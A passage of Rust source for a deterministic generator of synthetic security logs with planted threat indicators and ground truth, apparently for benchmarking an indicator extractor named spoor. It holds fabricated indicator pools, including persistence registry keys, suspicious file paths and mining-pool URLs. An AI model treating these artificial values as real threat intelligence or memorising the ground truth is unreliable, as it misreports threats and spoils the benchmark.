//! Deterministic generator of a mixed log with planted indicators and their ground truth.
//!
//! The file mixes the sources spoor meets in practice: squid proxy and iptables / Cisco ASA
//! firewall lines, sshd and Apache access lines, Sysmon events as JSON (with JSON-escaped
//! Windows paths and registry keys), EDR key=value alerts, threat-report prose with
//! defanged indicators, mail headers, regshot and `.reg` exports, noise-only syslog lines,
//! and blocks of binary junk (random bytes with ASCII and UTF-16LE strings inside).
//!
//! Indicators are drawn from bounded pools built once from the seed, so the number of
//! unique values stays bounded however large the file. Every value written is recorded in
//! a [`GroundTruth`]:
//! - `planted`: indicators an extractor must report (type, normalised value);
//! - `allowed`: values that may be reported without counting against precision (the host
//!   of a URL, the domain of an e-mail address, ...);
//! - `benign`: names on spoor's default allowlist, written on purpose (expected dropped);
//! - `noise`: text that must not yield an indicator (version strings, file names, times,
//!   GUIDs, MAC addresses, detection names, thumbprints).
//!
//! Network values stay in documentation ranges (192.0.2.0/24, 198.51.100.0/24,
//! 203.0.113.0/24, 2001:db8::/32) and under example.com/.net/.org, plus private and
//! benchmarking (198.18.0.0/15) addresses and random, fictional names such as
//! `qzvrtkmbxa.top`. Randomness comes from splitmix64 with a fixed seed: the same size
//! gives the same bytes on every machine. Output is streamed, so a 2 GiB file needs no
//! more memory than a 2 MiB one.

use sha2::{Digest, Sha256};
use std::collections::{BTreeSet, HashMap};
use std::fmt::Write as _;
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::net::Ipv6Addr;
use std::path::Path;

/// Seed used by the benchmark; changing it changes every byte of the file.
pub const SEED: u64 = 0x0005_b002_c0de_2026;
/// Bumped whenever the generator's output changes, and part of the file name.
/// 2: Monero addresses carry a valid Keccak-256 checksum (spoor verifies it).
pub const GENERATOR_VERSION: u32 = 2;

pub const MD5: &str = "md5";
pub const SHA1: &str = "sha1";
pub const SHA256: &str = "sha256";
pub const SHA512: &str = "sha512";
pub const IPV4: &str = "ipv4";
pub const IPV6: &str = "ipv6";
pub const DOMAIN: &str = "domain";
pub const URL: &str = "url";
pub const EMAIL: &str = "email";
pub const REGISTRY_KEY: &str = "registry_key";
pub const FILE_PATH: &str = "file_path";
pub const CVE: &str = "cve";
pub const ATTACK: &str = "attack_technique";
pub const BITCOIN: &str = "bitcoin";
pub const MONERO: &str = "monero";

/// Every indicator type, in spoor's output order.
pub const KINDS: [&str; 15] = [
    MD5,
    SHA1,
    SHA256,
    SHA512,
    IPV4,
    IPV6,
    DOMAIN,
    URL,
    EMAIL,
    REGISTRY_KEY,
    FILE_PATH,
    CVE,
    ATTACK,
    BITCOIN,
    MONERO,
];

/// Whether values of `kind` compare case-insensitively (as spoor deduplicates them).
pub fn case_insensitive(kind: &str) -> bool {
    kind == REGISTRY_KEY || kind == FILE_PATH
}

/// The key a value is compared by: lower case for case-insensitive kinds.
pub fn compare_key(kind: &str, value: &str) -> String {
    if case_insensitive(kind) {
        value.to_ascii_lowercase()
    } else {
        value.to_string()
    }
}

/// splitmix64: tiny, fast, and good enough to pick from pools.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform-ish in `0..n` (`n > 0`; the modulo bias is irrelevant here).
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }

    /// In `lo..=hi`.
    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.next_u64() % (hi - lo + 1)
    }

    /// True with probability `percent` / 100.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.next_u64() % 100 < percent
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    pub fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            let r = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&r[..chunk.len()]);
        }
    }

    /// `n` lower-case hex digits.
    pub fn hex(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| char::from(b"0123456789abcdef"[self.below(16)]))
            .collect()
    }

    /// `n` lower-case letters.
    pub fn letters(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| char::from(b'a' + self.below(26) as u8))
            .collect()
    }
}

/// What the generator wrote, for scoring an extractor's output.
#[derive(Default)]
pub struct GroundTruth {
    /// Indicators that must be reported: (type, normalised value).
    pub planted: BTreeSet<(&'static str, String)>,
    /// Values that may be reported without counting against precision.
    pub allowed: BTreeSet<(&'static str, String)>,
    /// Names on spoor's default allowlist that were written on purpose.
    pub benign: BTreeSet<(&'static str, String)>,
    /// Text that must not yield any indicator.
    pub noise: BTreeSet<String>,
    /// Byte ranges `[start, end)` of binary junk blocks.
    pub junk: Vec<(u64, u64)>,
    /// Planted values, indexed by [`Occurrence::value`].
    pub values: Vec<(&'static str, String)>,
    /// Every planted occurrence, in file order (empty unless tracking was asked for).
    pub occurrences: Vec<Occurrence>,
}

/// One planted occurrence: which value, and the byte range of the record holding it.
#[derive(Debug, Clone, Copy)]
pub struct Occurrence {
    /// Index into [`GroundTruth::values`].
    pub value: u32,
    /// Start of the record (a line, or a block of lines).
    pub start: u64,
    /// End of the record (exclusive).
    pub end: u64,
    /// The kind of record: `proxy`, `sysmon`, `prose`, `binary`, ...
    pub record: &'static str,
}

impl GroundTruth {
    /// Writes `status<TAB>type<TAB>value` lines (planted, allowed, benign) and
    /// `noise<TAB>-<TAB>text` lines.
    pub fn write_tsv(&self, path: &Path) -> io::Result<()> {
        let mut out = BufWriter::new(File::create(path)?);
        writeln!(
            out,
            "# spoor mixed-log ground truth, generator v{GENERATOR_VERSION}"
        )?;
        writeln!(out, "# status\ttype\tvalue")?;
        for (status, set) in [
            ("planted", &self.planted),
            ("allowed", &self.allowed),
            ("benign", &self.benign),
        ] {
            for (kind, value) in set {
                writeln!(out, "{status}\t{kind}\t{value}")?;
            }
        }
        for text in &self.noise {
            writeln!(out, "noise\t-\t{text}")?;
        }
        out.flush()
    }

    /// Whether `offset` lies inside a binary junk block.
    pub fn in_junk(&self, offset: u64) -> bool {
        let i = self.junk.partition_point(|&(start, _)| start <= offset);
        i > 0 && offset < self.junk[i - 1].1
    }
}

/// A URL of the pool: written forms are built from the parts.
struct UrlItem {
    scheme: &'static str,
    /// Host: a domain or an IPv4 address.
    host: String,
    host_is_ip: bool,
    port: Option<u16>,
    /// Path and query, starting with `/`.
    rest: String,
    /// A hash embedded in the path, if any.
    path_hash: Option<String>,
}

impl UrlItem {
    fn normalised(&self) -> String {
        match self.port {
            Some(p) => format!("{}://{}:{p}{}", self.scheme, self.host, self.rest),
            None => format!("{}://{}{}", self.scheme, self.host, self.rest),
        }
    }
}

/// Registry key: canonical short hive plus the rest, as written.
struct RegItem {
    hive: &'static str,
    rest: String,
}

/// Bounded pools of indicator values, built from the seed.
struct Pools {
    md5: Vec<String>,
    sha1: Vec<String>,
    sha256: Vec<String>,
    sha512: Vec<String>,
    imphash: Vec<String>,
    ipv4_doc: Vec<String>,
    ipv4_internal: Vec<String>,
    cidr: Vec<String>,
    ipv6: Vec<Ipv6Addr>,
    domains: Vec<String>,
    hostnames: Vec<String>,
    urls: Vec<UrlItem>,
    emails: Vec<String>,
    registry: Vec<RegItem>,
    paths_windows: Vec<String>,
    paths_system: Vec<String>,
    paths_unix: Vec<String>,
    cves: Vec<String>,
    bitcoin: Vec<String>,
    monero: Vec<String>,
}

#[rustfmt::skip]
const WORDS: [&str; 30] = [
    "update", "cdn", "login", "secure", "mail", "api", "files", "static", "portal", "sync",
    "auth", "billing", "invoice", "docs", "drive", "vpn", "remote", "support", "telemetry",
    "beacon", "relay", "gate", "news", "img", "dl", "store", "pay", "account", "verify",
    "cloud",
];
const DOC_ZONES: [&str; 3] = ["example.com", "example.net", "example.org"];
const FICTIONAL_TLDS: [&str; 12] = [
    "top", "xyz", "info", "ru", "biz", "online", "site", "co.uk", "com.br", "cn", "net", "com",
];
#[rustfmt::skip]
const PATH_WORDS: [&str; 20] = [
    "wp-content", "uploads", "images", "api", "v1", "v2", "gate", "panel", "admin",
    "static", "js", "css", "dl", "files", "update", "download", "cdn-cgi", "login", "auth",
    "includes",
];
#[rustfmt::skip]
const URL_FILES: [&str; 10] = [
    "index.php", "gate.php", "login.php", "a.exe", "update.bin", "payload.dll",
    "invoice.doc", "config.bin", "jquery.min.js", "logo.png",
];
const USERS: [&str; 6] = ["alice", "bob", "jdoe", "admin", "svc_backup", "mallory"];
#[rustfmt::skip]
const FIRST: [&str; 10] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
];
const LAST: [&str; 6] = ["smith", "jones", "nguyen", "garcia", "muller", "kowalski"];
#[rustfmt::skip]
const DIRS: [&str; 8] = [
    "updater", "syscache", "WinSvc", "AdobeSync", "msupd", "cache", "data", "svc",
];
#[rustfmt::skip]
const WIN_FILES: [&str; 10] = [
    "updater.exe", "svchost.exe", "payload.dll", "run.ps1", "install.bat", "stage2.bin",
    "loader.vbs", "invoice.js", "helper.dll", "agent.exe",
];
#[rustfmt::skip]
const UNIX_FILES: [&str; 8] = [
    "kworker", "kdevtmpfsi", "xmrig", "update.sh", "sync", "dbus-daemon", "libsys.so",
    "cfg",
];
const SYSTEM_PATHS: [&str; 10] = [
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\schtasks.exe",
    r"C:\Windows\SysWOW64\regsvr32.exe",
    r"C:\Windows\System32\certutil.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Program Files\Contoso Endpoint\agent.exe",
];
#[rustfmt::skip]
const RUN_NAMES: [&str; 8] = [
    "Updater", "OneDriveSync", "SecurityHealthSvc", "AdobeUpdate", "WinDefendSvc",
    "JavaUpd", "ChromeHelper", "SysCache",
];
#[rustfmt::skip]
const SERVICES: [&str; 6] = [
    "msupdsvc", "WinSvcHost", "netsync", "SysMain2", "wuaudt", "spoolsv2",
];
#[rustfmt::skip]
const TECHNIQUES: [&str; 24] = [
    "T1055", "T1059.001", "T1547.001", "T1071.001", "T1105", "T1027", "T1566.001",
    "T1003.001", "T1053.005", "T1112", "T1218.011", "T1486", "T1204.002", "T1021.001",
    "T1070.004", "T1082", "T1016", "T1057", "T1569.002", "T1036.005", "T1190", "T1140",
    "T1562.001", "T1041",
];
/// Benign names on spoor's default allowlist, written on purpose.
const BENIGN_DOMAINS: [&str; 6] = [
    "schemas.microsoft.com",
    "www.w3.org",
    "crl.digicert.com",
    "ocsp.digicert.com",
    "go.microsoft.com",
    "update.googleapis.com",
];
const BENIGN_URLS: [&str; 3] = [
    "http://schemas.xmlsoap.org/soap/envelope/",
    "http://www.w3.org/2001/XMLSchema-instance",
    "http://crl.digicert.com/DigiCertGlobalRootCA.crl",
];
const USER_AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.109 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "curl/8.4.0",
    "Microsoft-CryptoAPI/10.0",
];
/// Text that must never yield an indicator.
const NOISE: [&str; 34] = [
    "version 10.0.19041.1",
    "version 2.4.1.12",
    "Chrome/120.0.6099.109",
    "Windows NT 10.0",
    "OID 1.3.6.1.4.1.311.60.3.2",
    "FileVersion 6.2.3.1",
    "setup.exe",
    "cygwin.zip",
    "invoice.pdf",
    "kernel32.dll",
    "mod_auth_basic.so",
    "report.docx",
    "update.ps1",
    "install.sh",
    "README.md",
    "photo.mov",
    "12:34:56",
    "23:28:35.123",
    "00:1a:2b:3c:4d:5e",
    "{3F2504E0-4F89-11D3-9A0C-0305E82C3301}",
    "Win32/Turla.CX",
    "Trojan.Win32.Agent.xyz",
    "HEUR:Trojan.Script.Generic",
    "std::string",
    "System.Net.WebClient",
    "document.cookie",
    "this.name",
    "TA0003",
    "999.12.4.300",
    "1.2.3.4.5",
    "e.g.",
    "i.e.",
    "CORP\\alice",
    "HTTP/1.1",
];

fn plausible_digest(hex: &str) -> bool {
    let distinct: BTreeSet<u8> = hex.bytes().collect();
    distinct.len() >= 6 && hex.bytes().any(|b| b.is_ascii_alphabetic())
}

fn digest_pool(rng: &mut Rng, len: usize, n: usize) -> Vec<String> {
    let mut out = BTreeSet::new();
    while out.len() < n {
        let h = rng.hex(len);
        if plausible_digest(&h) {
            out.insert(h);
        }
    }
    out.into_iter().collect()
}

fn unique(mut v: Vec<String>) -> Vec<String> {
    let mut seen = BTreeSet::new();
    v.retain(|x| seen.insert(x.clone()));
    v
}

fn guid(rng: &mut Rng) -> String {
    let h = rng.hex(32).to_ascii_uppercase();
    format!(
        "{{{}-{}-{}-{}-{}}}",
        &h[..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..]
    )
}

fn sid(rng: &mut Rng) -> String {
    format!(
        "S-1-5-21-{}-{}-{}-{}",
        rng.range(1_000_000_000, 3_999_999_999),
        rng.range(1_000_000_000, 3_999_999_999),
        rng.range(1_000_000_000, 3_999_999_999),
        rng.range(1000, 1200)
    )
}

/// A mainnet Monero standard address (prefix 18) for `keys` (spend and view public key
/// bytes; random here), with its Keccak-256 checksum, in Monero's block Base58.
fn monero_address(keys: &[u8; 64]) -> String {
    use sha3::Digest as _;
    const B58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    // characters needed for 0..=8 bytes
    const ENCODED: [usize; 9] = [0, 2, 3, 5, 6, 7, 9, 10, 11];
    let mut raw = vec![18u8];
    raw.extend_from_slice(keys);
    let check = sha3::Keccak256::digest(&raw);
    raw.extend_from_slice(&check[..4]);
    let mut out = String::new();
    for block in raw.chunks(8) {
        let mut value = block.iter().fold(0u64, |a, &b| (a << 8) | u64::from(b));
        let mut chars = vec![b'1'; ENCODED[block.len()]];
        for c in chars.iter_mut().rev() {
            *c = B58[(value % 58) as usize];
            value /= 58;
        }
        out.extend(chars.iter().map(|&c| char::from(c)));
    }
    out
}

fn base58check(version: u8, payload: &[u8]) -> String {
    let mut raw = vec![version];
    raw.extend_from_slice(payload);
    let check = Sha256::digest(Sha256::digest(&raw));
    raw.extend_from_slice(&check[..4]);
    bs58::encode(raw).into_string()
}

impl Pools {
    fn new(rng: &mut Rng) -> Pools {
        let md5 = digest_pool(rng, 32, 48);
        let sha1 = digest_pool(rng, 40, 48);
        let sha256 = digest_pool(rng, 64, 48);
        let sha512 = digest_pool(rng, 128, 12);
        let imphash = digest_pool(rng, 32, 12);

        let nets = ["192.0.2", "198.51.100", "203.0.113"];
        let ipv4_doc = unique(
            (0..80)
                .map(|_| format!("{}.{}", rng.pick(&nets), rng.range(1, 254)))
                .collect(),
        );
        let mut internal = Vec::new();
        for i in 0..32 {
            internal.push(match i % 4 {
                0 => format!(
                    "10.{}.{}.{}",
                    rng.below(256),
                    rng.below(256),
                    rng.range(1, 254)
                ),
                1 => format!(
                    "172.{}.{}.{}",
                    rng.range(16, 31),
                    rng.below(256),
                    rng.range(1, 254)
                ),
                2 => format!("192.168.{}.{}", rng.below(256), rng.range(1, 254)),
                _ => format!(
                    "198.{}.{}.{}",
                    rng.range(18, 19),
                    rng.below(256),
                    rng.range(1, 254)
                ),
            });
        }
        let ipv4_internal = unique(internal);
        let cidr = vec![
            "198.51.100.0/24".to_string(),
            "203.0.113.0/25".to_string(),
            "192.0.2.128/26".to_string(),
            "203.0.113.64/27".to_string(),
            "10.20.0.0/16".to_string(),
        ];
        let mut ipv6 = Vec::new();
        for _ in 0..32 {
            let r = |rng: &mut Rng| rng.next_u64() as u16;
            let a = Ipv6Addr::new(
                0x2001,
                0x0db8,
                r(rng),
                if rng.chance(50) { 0 } else { r(rng) },
                0,
                if rng.chance(40) { 0 } else { r(rng) },
                if rng.chance(30) { 0 } else { r(rng) },
                r(rng) | 1,
            );
            ipv6.push(a);
        }

        let mut domains = Vec::new();
        for i in 0..64 {
            let d = if i < 40 {
                let zone = rng.pick(&DOC_ZONES);
                match rng.below(3) {
                    0 => format!("{}.{zone}", rng.pick(&WORDS)),
                    1 => format!("{}-{}.{zone}", rng.pick(&WORDS), rng.pick(&WORDS)),
                    _ => format!("{}.{}.{zone}", rng.pick(&WORDS), rng.pick(&WORDS)),
                }
            } else {
                let n = rng.range(8, 12) as usize;
                let label = rng.letters(n);
                let tld = rng.pick(&FICTIONAL_TLDS);
                if rng.chance(30) {
                    format!("{}.{label}.{tld}", rng.pick(&WORDS))
                } else {
                    format!("{label}.{tld}")
                }
            };
            domains.push(d);
        }
        let domains = unique(domains);
        let hostnames: Vec<String> = (0..12)
            .map(|i| format!("ws-{:04}.corp.example.com", 17 + i * 31))
            .collect();

        let schemes = ["http", "https", "https", "http", "ftp"];
        let mut urls = Vec::new();
        for _ in 0..72 {
            let (host, host_is_ip) = if rng.chance(75) {
                (rng.pick(&domains).clone(), false)
            } else {
                (rng.pick(&ipv4_doc).clone(), true)
            };
            let port = if rng.chance(if host_is_ip { 45 } else { 10 }) {
                Some(*rng.pick(&[8080u16, 8443, 4443, 8000, 81]))
            } else {
                None
            };
            let mut rest = String::new();
            let mut path_hash = None;
            for _ in 0..rng.range(0, 2) {
                let _ = write!(rest, "/{}", rng.pick(&PATH_WORDS));
            }
            if rng.chance(8) {
                let h = rng.pick(&md5).clone();
                let _ = write!(rest, "/{h}");
                path_hash = Some(h);
            } else if rng.chance(70) {
                let _ = write!(rest, "/{}", rng.pick(&URL_FILES));
            } else {
                rest.push('/');
            }
            if rng.chance(30) {
                let _ = write!(rest, "?id={}&v={}", rng.range(1, 99_999), rng.hex(8));
            }
            urls.push(UrlItem {
                scheme: rng.pick::<&str>(&schemes),
                host,
                host_is_ip,
                port,
                rest,
                path_hash,
            });
        }
        // a few mining-pool URLs
        for _ in 0..4 {
            urls.push(UrlItem {
                scheme: "stratum+tcp",
                host: rng.pick(&ipv4_doc).clone(),
                host_is_ip: true,
                port: Some(*rng.pick(&[3333u16, 4444, 5555])),
                rest: String::new(),
                path_hash: None,
            });
        }

        let mut emails = Vec::new();
        for _ in 0..40 {
            let f = rng.pick(&FIRST);
            let l = rng.pick(&LAST);
            let local = match rng.below(6) {
                0 => f.to_string(),
                1 => format!("{f}.{l}"),
                2 => format!("{f}_{l}"),
                3 => format!("{f}{}", rng.range(1, 99)),
                4 => format!("bounce-{}", rng.range(1000, 9999)),
                _ => rng
                    .pick(&["it-support", "billing", "no-reply", "hr.department"])
                    .to_string(),
            };
            emails.push(format!("{local}@{}", rng.pick(&domains)));
        }
        let emails = unique(emails);

        let mut registry = Vec::new();
        for _ in 0..40 {
            let name = rng.pick(&RUN_NAMES);
            let (hive, rest) = match rng.below(11) {
                0 => (
                    "HKLM",
                    format!(r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run\{name}"),
                ),
                1 => (
                    "HKCU",
                    format!(r"Software\Microsoft\Windows\CurrentVersion\Run\{name}"),
                ),
                2 => (
                    "HKCU",
                    format!(r"Software\Microsoft\Windows\CurrentVersion\RunOnce\{name}"),
                ),
                3 => (
                    "HKLM",
                    format!(r"SYSTEM\CurrentControlSet\Services\{}", rng.pick(&SERVICES)),
                ),
                4 => (
                    "HKLM",
                    format!(
                        r"SYSTEM\CurrentControlSet\Services\{}\Parameters",
                        rng.pick(&SERVICES)
                    ),
                ),
                5 => (
                    "HKLM",
                    r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon".to_string(),
                ),
                6 => (
                    "HKLM",
                    format!(
                        r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\{}",
                        rng.pick(&["sethc.exe", "utilman.exe", "osk.exe"])
                    ),
                ),
                7 => (
                    "HKCU",
                    format!(r"Software\Classes\CLSID\{}\InprocServer32", guid(rng)),
                ),
                8 => (
                    "HKCU",
                    r"Software\Classes\ms-settings\shell\open\command".to_string(),
                ),
                9 => (
                    "HKU",
                    format!(
                        r"{}\Software\Microsoft\Windows\CurrentVersion\Run",
                        sid(rng)
                    ),
                ),
                _ => ("HKLM", format!(r"SOFTWARE\{}\{name}", rng.pick(&DIRS))),
            };
            registry.push(RegItem { hive, rest });
        }
        let mut seen = BTreeSet::new();
        registry.retain(|r| seen.insert(format!("{}\\{}", r.hive, r.rest).to_ascii_lowercase()));

        let mut paths_windows = Vec::new();
        for _ in 0..48 {
            let u = rng.pick(&USERS);
            let d = rng.pick(&DIRS);
            let f = rng.pick(&WIN_FILES);
            paths_windows.push(match rng.below(11) {
                0 | 1 => format!(r"C:\Users\{u}\AppData\Roaming\{d}\{f}"),
                2 => format!(r"C:\Users\{u}\AppData\Local\Temp\{f}"),
                3 => format!(r"C:\ProgramData\{d}\{f}"),
                4 => format!(r"C:\Windows\Temp\{f}"),
                5 => format!(r"C:\Program Files\Contoso {d}\{f}"),
                6 => format!(r"C:\Program Files (x86)\{d}\{f}"),
                7 => format!(r"%APPDATA%\{d}\{f}"),
                8 => format!(r"%TEMP%\{f}"),
                9 => format!(
                    r"\\fs{:02}\{}\{f}",
                    rng.range(1, 9),
                    rng.pick(&["public", "C$", "share"])
                ),
                _ => format!(r"D:\share\{d}\{f}"),
            });
        }
        let paths_windows = unique(paths_windows);
        let paths_system = SYSTEM_PATHS.iter().map(|s| s.to_string()).collect();
        let mut paths_unix = Vec::new();
        for _ in 0..20 {
            let f = rng.pick(&UNIX_FILES);
            paths_unix.push(match rng.below(8) {
                0 => format!("/tmp/.{}/{f}", rng.pick(&["ICE-unix", "x", "cache"])),
                1 => format!("/var/tmp/{f}"),
                2 => format!("/dev/shm/.{f}"),
                3 => format!("/etc/cron.d/{f}"),
                4 => format!("/usr/local/bin/{f}"),
                5 => "/root/.ssh/authorized_keys".to_string(),
                6 => format!("/home/{}/.config/{f}", rng.pick(&USERS)),
                _ => "/etc/ld.so.preload".to_string(),
            });
        }
        let paths_unix = unique(paths_unix);

        let cves = unique(
            (0..32)
                .map(|_| {
                    let year = rng.range(2014, 2025);
                    let n = if rng.chance(50) {
                        rng.range(1000, 9999)
                    } else {
                        rng.range(10_000, 49_999)
                    };
                    format!("CVE-{year}-{n}")
                })
                .collect(),
        );

        let mut bitcoin = Vec::new();
        for i in 0..6 {
            let mut payload = [0u8; 20];
            rng.fill(&mut payload);
            bitcoin.push(match i % 3 {
                0 => base58check(0x00, &payload),
                1 => base58check(0x05, &payload),
                _ => bech32::segwit::encode_v0(bech32::hrp::BC, &payload)
                    .unwrap_or_else(|_| base58check(0x00, &payload)),
            });
        }
        let monero = (0..3)
            .map(|_| {
                let mut keys = [0u8; 64];
                rng.fill(&mut keys);
                monero_address(&keys)
            })
            .collect();

        Pools {
            md5,
            sha1,
            sha256,
            sha512,
            imphash,
            ipv4_doc,
            ipv4_internal,
            cidr,
            ipv6,
            domains,
            hostnames,
            urls,
            emails,
            registry,
            paths_windows,
            paths_system,
            paths_unix,
            cves,
            bitcoin,
            monero,
        }
    }
}

/// How a value is written.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Fang {
    Plain,
    Defanged,
}

/// How Windows backslashes are written.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Esc {
    Raw,
    /// JSON or `.reg` string: `\` written as `\\`.
    Doubled,
}

fn escape(s: &str, esc: Esc) -> String {
    match esc {
        Esc::Raw => s.to_string(),
        Esc::Doubled => s.replace('\\', r"\\"),
    }
}

/// Writes `to_write` bytes counting the position, so junk ranges can be recorded.
struct Counting<W: Write> {
    inner: W,
    pos: u64,
}

impl<W: Write> Counting<W> {
    fn put(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.inner.write_all(bytes)?;
        self.pos += bytes.len() as u64;
        Ok(())
    }
}

/// The generator: pools, clock, output and ground truth.
struct Gen<W: Write> {
    rng: Rng,
    pools: Pools,
    out: Counting<W>,
    truth: GroundTruth,
    /// Seconds since the Unix epoch, advancing with each record.
    clock: u64,
    millis: u64,
    line: String,
    /// Interned planted values (index into `truth.values`).
    value_ids: HashMap<(&'static str, String), u32>,
    /// Values planted in the record being built.
    pending: Vec<u32>,
    track_occurrences: bool,
}

/// Proportions of the record kinds (out of the sum).
const WEIGHTS: [(Record, u32); 11] = [
    (Record::Proxy, 15),
    (Record::Firewall, 12),
    (Record::Sshd, 8),
    (Record::Web, 12),
    (Record::Sysmon, 16),
    (Record::Edr, 8),
    (Record::Prose, 11),
    (Record::Mail, 3),
    (Record::Registry, 5),
    (Record::Binary, 2),
    (Record::Syslog, 8),
];

#[derive(Clone, Copy, Debug)]
enum Record {
    Proxy,
    Firewall,
    Sshd,
    Web,
    Sysmon,
    Edr,
    Prose,
    Mail,
    Registry,
    Binary,
    Syslog,
}

impl Record {
    fn name(self) -> &'static str {
        match self {
            Record::Proxy => "proxy",
            Record::Firewall => "firewall",
            Record::Sshd => "sshd",
            Record::Web => "web",
            Record::Sysmon => "sysmon",
            Record::Edr => "edr",
            Record::Prose => "prose",
            Record::Mail => "mail",
            Record::Registry => "registry",
            Record::Binary => "binary",
            Record::Syslog => "syslog",
        }
    }
}

/// Writes a mixed log of at least `bytes` bytes (it stops at the first record boundary
/// past that size) to `path`, and returns its exact size and the ground truth. With
/// `track_occurrences`, every planted occurrence is recorded (memory grows with the
/// file: about 24 bytes per occurrence); without, only the bounded sets are kept.
pub fn generate(
    path: &Path,
    bytes: u64,
    seed: u64,
    track_occurrences: bool,
) -> io::Result<(u64, GroundTruth)> {
    let file = File::create(path)?;
    let mut rng = Rng::new(seed);
    let pools = Pools::new(&mut rng);
    let mut g = Gen {
        rng,
        pools,
        out: Counting {
            inner: BufWriter::with_capacity(1 << 20, file),
            pos: 0,
        },
        truth: GroundTruth::default(),
        clock: 1_699_187_696, // 2023-11-05T12:34:56Z
        millis: 0,
        line: String::with_capacity(4096),
        value_ids: HashMap::new(),
        pending: Vec::new(),
        track_occurrences,
    };
    g.truth.noise.extend(NOISE.iter().map(|s| s.to_string()));
    let total: u32 = WEIGHTS.iter().map(|(_, w)| w).sum();
    while g.out.pos < bytes {
        let mut r = g.rng.below(total as usize) as u32;
        let mut kind = Record::Syslog;
        for (k, w) in WEIGHTS {
            if r < w {
                kind = k;
                break;
            }
            r -= w;
        }
        g.tick();
        g.record(kind)?;
    }
    g.out.inner.flush()?;
    let size = g.out.pos;
    Ok((size, g.truth))
}

impl<W: Write> Gen<W> {
    fn tick(&mut self) {
        self.clock += self.rng.range(0, 2);
        self.millis = self.rng.range(0, 999);
    }

    // ---- truth bookkeeping -------------------------------------------------------------

    fn plant(&mut self, kind: &'static str, value: &str) {
        let key = (kind, value.to_string());
        let id = match self.value_ids.get(&key) {
            Some(&id) => id,
            None => {
                let id = self.truth.values.len() as u32;
                self.truth.values.push(key.clone());
                self.truth.planted.insert(key.clone());
                self.value_ids.insert(key, id);
                id
            }
        };
        if self.track_occurrences {
            self.pending.push(id);
        }
    }

    fn allow(&mut self, kind: &'static str, value: &str) {
        self.truth.allowed.insert((kind, value.to_string()));
    }

    fn benign(&mut self, kind: &'static str, value: &str) {
        self.allow(kind, value);
        self.truth.benign.insert((kind, value.to_string()));
    }

    fn noise(&mut self) -> &'static str {
        self.rng.pick::<&str>(&NOISE)
    }

    // ---- defanging ---------------------------------------------------------------------

    fn defang_dots(&mut self, s: &str) -> String {
        let dot = match self.rng.below(100) {
            0..=49 => "[.]",
            50..=59 => "(.)",
            60..=67 => "{.}",
            68..=81 => "[dot]",
            82..=91 => "(dot)",
            92..=95 => r"\.",
            _ => {
                // only the last dot, a common half-hearted form
                if let Some(i) = s.rfind('.') {
                    return format!("{}[.]{}", &s[..i], &s[i + 1..]);
                }
                "[.]"
            }
        };
        s.replace('.', dot)
    }

    fn defang_at(&mut self) -> &'static str {
        self.rng.pick::<&str>(&["[@]", "[@]", "[at]", "(at)"])
    }

    // ---- values: each picks from a pool, records truth, returns the written text --------

    fn md5(&mut self) -> String {
        let v = self.rng.pick(&self.pools.md5).clone();
        self.plant(MD5, &v);
        v
    }

    fn sha1(&mut self) -> String {
        let v = self.rng.pick(&self.pools.sha1).clone();
        self.plant(SHA1, &v);
        v
    }

    fn sha256(&mut self) -> String {
        let v = self.rng.pick(&self.pools.sha256).clone();
        self.plant(SHA256, &v);
        v
    }

    fn sha512(&mut self) -> String {
        let v = self.rng.pick(&self.pools.sha512).clone();
        self.plant(SHA512, &v);
        v
    }

    fn imphash(&mut self) -> String {
        let v = self.rng.pick(&self.pools.imphash).clone();
        self.allow(MD5, &v);
        v
    }

    /// A documentation-range address (mostly) or an internal one.
    fn ip(&mut self, internal: bool) -> String {
        let pool = if internal {
            &self.pools.ipv4_internal
        } else {
            &self.pools.ipv4_doc
        };
        let v = self.rng.pick(pool).clone();
        self.plant(IPV4, &v);
        v
    }

    /// `ip:port`: the address is planted (its port is a field of its own).
    fn ip_port(&mut self, port: u16) -> String {
        let ip = self.rng.pick(&self.pools.ipv4_doc).clone();
        let v = format!("{ip}:{port}");
        self.plant(IPV4, &ip);
        v
    }

    fn ip_written(&mut self, fang: Fang) -> String {
        if self.rng.chance(10) {
            let v = self.rng.pick(&self.pools.cidr).clone();
            self.plant(IPV4, &v);
            return if fang == Fang::Defanged {
                v.replacen('.', "[.]", 3)
            } else {
                v
            };
        }
        let v = self.ip(false);
        match fang {
